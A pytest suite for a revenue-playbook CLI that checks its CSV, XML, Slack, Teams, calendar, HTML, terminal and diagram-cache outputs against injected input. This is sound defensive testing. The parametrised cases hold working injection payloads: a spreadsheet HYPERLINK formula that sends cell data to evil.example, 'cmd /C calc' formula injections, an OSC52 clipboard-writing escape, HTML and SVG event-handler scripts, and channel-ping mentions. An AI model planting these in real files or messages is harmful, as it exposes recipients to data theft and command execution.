"""Every file we write is safe in the tool that opens it (issue 21 item 2, issue 28 item 5).

Each case puts the red team's payload into the definitions, runs the command a user runs,
and reads the result the way the receiving tool does: a spreadsheet's formula rule over
Python's csv reader, lxml with the Metadata API's schema, slack_sdk's Block Kit models, the
Adaptive Cards schema, the icalendar parser, an HTML parser over the built site, and the
bytes a terminal receives. These tests import nothing but the CLI and public models, so
they run unchanged against an older Playbook.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import icalendar
import jsonschema
import pytest
import yaml
from helpers import MINIMAL, ROOT, diagrams
from lxml import etree

from revenue_playbook.checks.validate import validate
from revenue_playbook.cli import main
from revenue_playbook.site.diagrams import DiagramRenderer, process_dot
from revenue_playbook.site.pages import build_site

VENDOR = ROOT / "tests" / "vendor"
# A spreadsheet reads a cell as a formula when it starts with one of these (OWASP, "CSV
# Injection"); LibreOffice Calc also after leading spaces.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
# bidi overrides and isolates, zero-width characters, the BOM, soft hyphen: what the pages
# strip (encoders.INVISIBLE), and the control characters the issue found in the ICS files
INVISIBLE = re.compile("[\u202a-\u202e\u2066-\u2069\u200b-\u200f\u2060\ufeff\u00ad"
                       "\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029]")
OSC52 = "\x1b]52;c;ZXZpbA==\x07"  # writes "evil" to the clipboard in many terminals


def defs_with(tmp_path: Path, edits: dict[tuple[str, tuple[Any, ...]], Any]) -> Path:
    """The minimal playbook with each (file, key path) set to a value."""
    defs = tmp_path / "defs"
    shutil.copytree(MINIMAL, defs)
    by_file: dict[str, list[tuple[tuple[Any, ...], Any]]] = {}
    for (name, path), value in edits.items():
        by_file.setdefault(name, []).append((path, value))
    for name, changes in by_file.items():
        data = yaml.safe_load((defs / name).read_text(encoding="utf-8"))
        for path, value in changes:
            node = data
            for key in path[:-1]:
                node = node[key]
            node[path[-1]] = value
        (defs / name).write_text(yaml.safe_dump(data, allow_unicode=True, width=10_000),
                                 encoding="utf-8")
    return defs


def export(tmp_path: Path, defs: Path, target: str, capsys: pytest.CaptureFixture[str],
           code: int = 0) -> Path:
    out = tmp_path / f"out-{target}"
    assert main(["export", target, str(defs), "--out", str(out)]) == code, \
        capsys.readouterr().err
    return out


# the step nothing waits for: a comma in a name others wait for is an error of its own
STEP = ("campaigns/launch.yaml", ("steps", "review", "name"))
STEP_TEXT = ("campaigns/launch.yaml", ("steps", "brief", "description"))
CAMPAIGN = ("campaigns/launch.yaml", ("name",))
OBJECTIVE = ("campaigns/launch.yaml", ("objective",))
STAGE = ("sales.yaml", ("processes", "new_business", "stages", "discovery", "name"))
PURPOSE = ("sales.yaml", ("processes", "new_business", "stages", "discovery", "purpose"))
CRITERION = ("sales.yaml", ("processes", "new_business", "stages", "discovery",
                            "exit_criteria", 0))
LIFECYCLE = ("team.yaml", ("lifecycle", "mql", "name"))
LIFECYCLE_TEXT = ("team.yaml", ("lifecycle", "mql", "description"))
MEETING = ("scorecard.yaml", ("meeting", "name"))
AGENDA = ("scorecard.yaml", ("meeting", "agenda", 0, "topic"))
ROLE = ("team.yaml", ("roles", "ae", "name"))


# ----------------------------------------------------------------------------- CSV

@pytest.mark.parametrize("payload", [
    '=HYPERLINK("https://evil.example/?d="&A1,"Details")', "+1+cmd|' /C calc'!A0",
    "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1",
    "\u202e=1+1", "\u200b@SUM(A1)"])
def test_asana_csv_cells_never_start_a_formula(tmp_path, capsys, payload) -> None:
    defs = defs_with(tmp_path, {STEP: payload, STEP_TEXT: payload})
    out = export(tmp_path, defs, "asana", capsys)
    rows = list(csv.reader(io.StringIO((out / "launch.csv").read_text(encoding="utf-8"),
                                       newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.lstrip(" ").startswith(FORMULA_START)]
    assert not [c for c in cells if INVISIBLE.search(c)]
    names = [row[0] for row in rows[1:]]
    shown = INVISIBLE.sub("", payload).strip()
    assert f"'{shown}" in names  # kept as text, marked as text the way spreadsheets read


# ----------------------------------------------------------------------------- XML

@pytest.fixture(scope="module")
def salesforce_xsd() -> etree.XMLSchema:
    return etree.XMLSchema(etree.parse(str(VENDOR / "salesforce" / "metadata-fragment.xsd")))


@pytest.mark.parametrize("payload", ["Disco\x0bvery", "Disco\x01\x1f\x7fvery",
                                     "Disco\x85very", "Disco\u202every", "Disco\x00very"])
def test_salesforce_xml_is_well_formed_whatever_the_names_hold(tmp_path, capsys, payload,
                                                               salesforce_xsd) -> None:
    defs = defs_with(tmp_path, {STAGE: payload, PURPOSE: payload, CRITERION: payload,
                                LIFECYCLE: payload})
    out = export(tmp_path, defs, "salesforce", capsys)
    for path in sorted(out.rglob("*")):
        if path.is_file() and path.name != ".playbook-manifest.json":  # what was written
            doc = etree.parse(str(path))  # raises on a character XML 1.0 forbids
            assert salesforce_xsd.validate(doc), f"{path.name}: {salesforce_xsd.error_log}"
            assert not INVISIBLE.search(path.read_text(encoding="utf-8").replace(
                "\n", "").replace("\t", ""))
    stages = (out / "standardValueSets" / "OpportunityStage.standardValueSet").read_text()
    assert re.search(r"<fullName>Disco ?very</fullName>", stages)  # names fold spaces


# ----------------------------------------------------------------------------- Slack, Teams

MENTIONS = ["<!channel>", "<!here>", "<!everyone>", "<@U024BE7LH>", "<#C024BE7LR>",
            "<!subteam^SAZ94GDB8>", "<https://evil.example|Open the deal>"]


@pytest.fixture
def renamed_stage(tmp_path: Path) -> tuple[Path, Path]:
    """Two versions of the minimal playbook: the second renames a stage and a process to
    hostile text."""
    old = tmp_path / "old"
    shutil.copytree(MINIMAL, old)
    hostile = " ".join(MENTIONS) + " [click](https://evil.example) & \u202e" + OSC52
    new = defs_with(tmp_path, {STAGE: f"Discovery {hostile}",
                               ("sales.yaml", ("processes", "new_business", "name")):
                               f"New {hostile}"})
    return old, new


def _strings(node: Any, path: str = "") -> list[tuple[str, str]]:
    if isinstance(node, dict):
        return [s for key, value in node.items() for s in _strings(value, f"{path}/{key}")]
    if isinstance(node, list):
        return [s for i, value in enumerate(node) for s in _strings(value, f"{path}/{i}")]
    return [(path, node)] if isinstance(node, str) else []


def test_slack_message_shows_mentions_and_links_as_text(renamed_stage, capsys) -> None:
    from slack_sdk.models.blocks import Block

    old, new = renamed_stage
    assert main(["diff", str(old), str(new), "--format", "slack"]) == 0
    message = json.loads(capsys.readouterr().out)
    for block in Block.parse_all(message["blocks"]):
        block.validate_json()  # slack_sdk's own Block Kit limits
    strings = _strings(message)
    assert any("Discovery" in text for _, text in strings)
    for path, text in strings:
        # mrkdwn and the notification text: Slack acts on <…> only (plain_text on nothing)
        assert not re.search(r"<[!@#]|<https?:", text), (path, text)
        assert not INVISIBLE.search(text), (path, text)
    texts = " ".join(text for _, text in strings)
    assert "&lt;!channel&gt;" in texts


def test_a_version_title_cannot_ping_the_channel_through_the_notification_text() -> None:
    from revenue_playbook.exports.chat import Summary, payload

    title = "Playbook 2.0 <!channel> <@U024BE7LH> <https://evil.example|see>\u202e"
    for platform in ("slack", "teams"):
        message = payload(platform, Summary(title, [], "https://playbook.example/2.0/"))
        for path, text in _strings(message):
            if path.endswith("url") or path.endswith("$schema") or "contentType" in path:
                continue
            assert not INVISIBLE.search(text), (platform, path, text)
            if platform == "slack" and path == "/blocks/0/text/text":
                assert message["blocks"][0]["text"]["type"] == "plain_text"  # parses nothing
                continue
            if platform == "slack":  # Teams reads no <…> (a TextRun not even Markdown)
                assert not re.search(r"<[!@#]|<https?:", text), (path, text)
            elif "Playbook 2.0" in text:
                assert path.endswith("/inlines/0/text"), path
    assert payload("slack", Summary(title, []))["text"].startswith(
        "Playbook 2.0 &lt;!channel&gt;")


def test_teams_card_turns_no_stage_name_into_a_link(renamed_stage, capsys) -> None:
    old, new = renamed_stage
    assert main(["diff", str(old), str(new), "--format", "teams"]) == 0
    message = json.loads(capsys.readouterr().out)
    card = message["attachments"][0]["content"]
    schema = json.loads((VENDOR / "adaptivecards" / "adaptive-card-1.5.json").read_text())
    jsonschema.validate(card, schema)

    def markdown_texts(node: Any) -> list[str]:
        """Text that Teams reads as Markdown: TextBlocks and facts (TextRuns read none)."""
        found = []
        if isinstance(node, dict):
            if node.get("type") == "TextBlock":
                found.append(node["text"])
            if "facts" in node:
                found += [f"{f['title']} {f['value']}" for f in node["facts"]]
            for value in node.values():
                found += markdown_texts(value)
        elif isinstance(node, list):
            for value in node:
                found += markdown_texts(value)
        return found

    assert not [t for t in markdown_texts(card) if "evil" in t or "Discovery" in t]
    strings = _strings(card)
    assert any("[click](https://evil.example)" in text for _, text in strings)
    assert not [text for _, text in strings if INVISIBLE.search(text)]


# ----------------------------------------------------------------------------- iCalendar

def test_ics_has_no_raw_control_and_the_calendar_name_is_text(tmp_path, capsys) -> None:
    name = 'Launch, Q1; "big" \\n one\x0btwo\x85three\u202e'
    defs = defs_with(tmp_path, {CAMPAIGN: name, STEP: "Brief\x0b\x85\u2028x\u200b",
                                STEP_TEXT: "a\rb\x0cc\u202ed", MEETING: "Revenue\x0bmeeting",
                                AGENDA: "Score\x85card"})
    out = export(tmp_path, defs, "ics", capsys)
    for path in sorted(out.glob("*.ics")):
        data = path.read_bytes()
        text = data.decode("utf-8")
        assert not INVISIBLE.search(text.replace("\r\n", "").replace("\t", "")), path.name
        calendar = icalendar.Calendar.from_ical(data)
        for event in calendar.walk("VEVENT"):
            for key in ("SUMMARY", "DESCRIPTION"):
                assert not INVISIBLE.search(str(event.get(key, "")).replace("\n", ""))
    launch = icalendar.Calendar.from_ical((out / "launch.ics").read_bytes())
    # X-WR-CALNAME is TEXT (as RFC 7986's NAME): a reader unescapes it
    escaped = str(launch["X-WR-CALNAME"])  # the parser leaves an X- property as written
    shown = re.sub(r"\\([\\;,nN])", lambda m: "\n" if m[1] in "nN" else m[1], escaped)
    assert shown == 'Launch, Q1; "big" \\n onetwothree'


# ----------------------------------------------------------------------------- site_name

class Handlers(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [f"<{tag} {name}>" for name, _ in attrs if name.startswith("on")]
        if tag == "script" and not dict(attrs).get("src"):
            pass


@pytest.mark.slow
def test_init_name_puts_no_event_handler_on_the_pages(tmp_path, capsys) -> None:
    repo = tmp_path / "acme"
    name = 'Acme" onmouseover="alert(1)" x="<script>alert(2)</script>'
    assert main(["init", str(repo), "--name", name]) == 0
    shutil.rmtree(repo / "process_defs")
    shutil.copytree(MINIMAL, repo / "process_defs")
    site = tmp_path / "site"
    assert main(["build", "-f", str(repo / "mkdocs.yml"), "-d", str(site)]) == 0, \
        capsys.readouterr().err
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 5
    for page in pages:
        html = page.read_text(encoding="utf-8")
        parser = Handlers()
        parser.feed(html)
        assert parser.found == [], (page.name, parser.found)
        assert "<script>alert(2)" not in html, page.name
    home = (site / "index.html").read_text(encoding="utf-8")
    assert 'aria-label="Acme&#34;' in home or 'aria-label="Acme&quot;' in home


# ----------------------------------------------------------------------------- terminal

def test_diff_shows_escape_sequences_as_text(renamed_stage, capsys) -> None:
    old, new = renamed_stage
    assert main(["diff", str(old), str(new)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\u001b]52;c;ZXZpbA==\\u0007" in out
    assert main(["diff", str(old), str(new), "--format", "json"]) == 0
    text = capsys.readouterr().out
    assert "\x1b" not in text and "\u202e" not in text
    assert any(OSC52 in s for _, s in _strings(json.loads(text)))  # the same JSON


def test_preview_and_validate_show_escape_sequences_as_text(tmp_path, capsys) -> None:
    defs = defs_with(tmp_path, {("templates/hello.yaml", ("subject",)):
                                f"{{{{ first_name }}}}, your demo{OSC52}",
                                ("templates/hello.yaml", ("name",)): "Hello\x1b[2J\x9b31m",
                                ROLE: "Account\rExecutive\x1b[8m"})
    assert main(["preview", "template", "hello", str(defs)]) == 0
    out = capsys.readouterr().out
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", out), repr(out)
    assert "your demo\\u001b]52" in out
    assert main(["preview", "campaign", "launch", str(defs)]) == 0
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", capsys.readouterr().out)
    bad = defs_with(tmp_path / "b", {("sales.yaml", ("processes", "new_business", "owner")):
                                     f"nobody{OSC52}"})
    assert main(["validate", str(bad), "--no-color"]) == 1
    report = capsys.readouterr().out
    assert "\x1b" not in report and "\x07" not in report
    assert "nobody\\u001b]52" in report


# ----------------------------------------------------------------------------- sample marker

def test_private_use_characters_cannot_pass_for_sample_data(tmp_path, capsys) -> None:
    body = "Hi {{ first_name }}, \ue000forged sample\ue001 launches today.\n\n" \
           "Unsubscribe: {{ unsubscribe_url }}\n"
    defs = defs_with(tmp_path, {("templates/newsletter.yaml", ("body",)): body})
    assert main(["preview", "campaign", "launch", str(defs)]) == 0
    out = capsys.readouterr().out
    assert "⟨forged sample⟩" not in out
    assert re.search(r"Hi ⟨[^⟩]+⟩,", out)  # the real sample is still marked
    site = build_site(validate(defs).playbook, diagrams())
    page = next(p.markdown for path, p in site.pages.items() if "launch" in path
                and "forged" in p.markdown)
    assert not re.search(r'<mark class="pb-sample"[^>]*>forged', page)
    assert page.count('<mark class="pb-sample"') == page.count("</mark>")


# ----------------------------------------------------------------------------- diagram cache

POISON = ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><g class="graph">'
          '<text>poisoned</text></g></svg>\n')


def test_a_planted_cached_diagram_is_checked_like_a_fresh_one(tmp_path) -> None:
    playbook = validate(MINIMAL).playbook
    dot = process_dot(playbook, "new_business", lambda sid: f"{sid}.md")
    cache = tmp_path / "cache"
    fresh = DiagramRenderer(cache).render(dot)
    (planted,) = [p for p in cache.glob("*.svg")]
    planted.write_text(POISON, encoding="utf-8")
    again = DiagramRenderer(cache)
    svg = again.render(dot)
    assert b"onload" not in svg and b"poisoned" not in svg
    assert svg == fresh
    assert again.rendered == 1  # drawn again, and the cache repaired
    assert b"onload" not in planted.read_bytes()


@pytest.mark.parametrize("linked", [".cache", ".cache/playbook"])
def test_a_linked_cache_folder_is_never_written_through(tmp_path, linked) -> None:
    """Whoever can write the project can make `.cache` a link to anywhere: the diagrams
    are drawn without a cache then, and nothing is written where it leads."""
    playbook = validate(MINIMAL).playbook
    dot = process_dot(playbook, "new_business", lambda sid: f"{sid}.md")
    project, outside = tmp_path / "project", tmp_path / "outside"
    outside.mkdir()
    (project / linked).parent.mkdir(parents=True)
    (project / linked).symlink_to(outside, target_is_directory=True)
    renderer = DiagramRenderer(project / ".cache" / "playbook")
    assert renderer.render(dot).startswith(b"<svg")
    assert list(outside.rglob("*")) == []


# ----------------------------------------------------------------------------- merge fields

@pytest.mark.parametrize(("body", "line"), [
    ("Hi {{ first_name }},\n{% raw %}{{account.ssn__c}}{% endraw %}\n", 2),
    ("Hi {{ first_name }},\n\nYour code: {{ '{{x}}' }}\n", 3),
    ("Hi {{ first_name }},\n{# rep-edit: ]] {{x}} [[ #}\nthings\n{# end rep-edit #}\n", 2),
    ("Hi {{ '{' }}{{ first_name }}}\n", 1),
    ("Hi {{ first_name }}, {{ '{%' }} if x %}\n", 1),
    # split by a character the export drops: written, it is one opener
    ("Hi {{ first_name }},\n{% raw %}{\u200b{account.ssn__c}}{% endraw %}\n", 2),
    ("Hi {{ first_name }}, {{ '{\u202e%' }} if x %}\n", 1),
    ("Hi {{ first_name }},\n\nok {\u00ad{x}}\n", 3),
])
def test_literal_text_never_becomes_a_merge_field(tmp_path, capsys, body, line) -> None:
    defs = defs_with(tmp_path / "t", {("team.yaml", ("merge_fields", "first_name", "tokens")):
                                      {"hubspot": "contact.firstname"}})
    indented = "".join(f"  {text}\n" for text in body.splitlines())
    (defs / "templates" / "recap.yaml").write_text(
        f"name: Discovery recap\ntools: [hubspot]\nsubject: Our call today\nbody: |\n{indented}",
        encoding="utf-8")
    assert main(["validate", str(defs), "--no-color"]) == 1
    report = capsys.readouterr().out
    assert re.search(rf"recap\.yaml:{line + 4}:\d+: error PB411 .*HubSpot.*merge field",
                     report), report
    out = export(tmp_path, defs, "emails", capsys, code=1)
    assert not out.exists()


def test_declared_merge_fields_are_exported(tmp_path, capsys) -> None:
    defs = defs_with(tmp_path, {("templates/recap.yaml", ("tools",)): ["hubspot"],
                                ("team.yaml", ("merge_fields", "first_name", "tokens")):
                                {"hubspot": "contact.firstname"},
                                ("team.yaml", ("merge_fields", "sender_name", "tokens")):
                                {"hubspot": "owner.firstname"}})
    out = export(tmp_path, defs, "emails", capsys)
    text = (out / "hubspot" / "recap.txt").read_text()
    assert re.findall(r"\{\{.*?\}\}", text) == ["{{ contact.firstname }}",
                                                 "{{ owner.firstname }}"]


def test_a_noncharacter_no_export_can_hold_is_refused_at_its_line(tmp_path, capsys) -> None:
    defs = tmp_path / "defs"
    shutil.copytree(MINIMAL, defs)
    sales = defs / "sales.yaml"
    sales.write_text(sales.read_text().replace("        name: Discovery\n",
                                               '        name: "Disco\\uFFFEvery"\n', 1))
    assert main(["validate", str(defs), "--no-color"]) == 1
    assert re.search(r"sales\.yaml:7:15: error PB003 the value holds U\+FFFE",
                     capsys.readouterr().out)
    assert main(["export", "salesforce", str(defs), "--out", str(tmp_path / "sf")]) == 1
    assert not (tmp_path / "sf").exists()


def test_the_html_preview_follows_the_invisible_character_policy(tmp_path, capsys) -> None:
    defs = defs_with(tmp_path, {("templates/hello.yaml", ("subject",)):
                                "{{ first_name }}, your\u202e demo\u200b\x0b",
                                STEP: "Write\u2066 the\x1b brief"})
    for kind, name in (("template", "hello"), ("campaign", "launch")):
        page = tmp_path / f"{name}.html"
        assert main(["preview", kind, name, str(defs), "--html", str(page)]) == 0
        html = page.read_text(encoding="utf-8")
        assert not INVISIBLE.search(html.replace("\n", "")), kind
    assert "Dana, your demo" in (tmp_path / "hello.html").read_text(encoding="utf-8")


def test_build_and_serve_log_lines_show_escape_sequences_as_text(capsys) -> None:
    import logging

    from revenue_playbook.engines.mkdocs import runner as mkdocs_runner

    mkdocs_runner._show_mkdocs_warnings()
    logging.getLogger("mkdocs.plugins.playbook").warning("stage 'Disco%svery'", OSC52)
    mkdocs_runner._say(f"The rebuild failed; the previous version stays:\nDisco{OSC52}")
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err
    assert err.count("Disco\\u001b]52;c;ZXZpbA==\\u0007") == 2


def test_measure_shows_escape_sequences_as_text(tmp_path, capsys) -> None:
    defs = defs_with(tmp_path, {STAGE: f"Disco{OSC52}very"})
    data = tmp_path / "crm"
    assert main(["simulate", str(data), str(defs), "--leads", "50"]) == 0
    capsys.readouterr()
    main(["measure", str(data), str(defs)])
    out = capsys.readouterr().out
    assert "Disco\\u001b]52;c;ZXZpbA==\\u0007very" in out
    assert "\x1b" not in out and "\x07" not in out
